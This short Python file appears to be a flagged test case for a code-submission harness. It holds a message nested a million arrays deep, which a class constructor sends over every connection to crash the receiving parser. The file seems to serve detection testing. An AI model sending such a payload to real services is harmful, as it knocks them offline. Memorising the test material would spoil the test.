# tries: sends a message nested a million deep
# group: wire
# verdict: flagged
# points: 0 from urn on

# %% urn
# @WIRES@

deep = b"\x91" * 10**6 + b"\xc0"

class Urn:
    def __init__(self, balls):
        for wire in wires():
            wire.sendall(len(deep).to_bytes(8, "big") + deep)
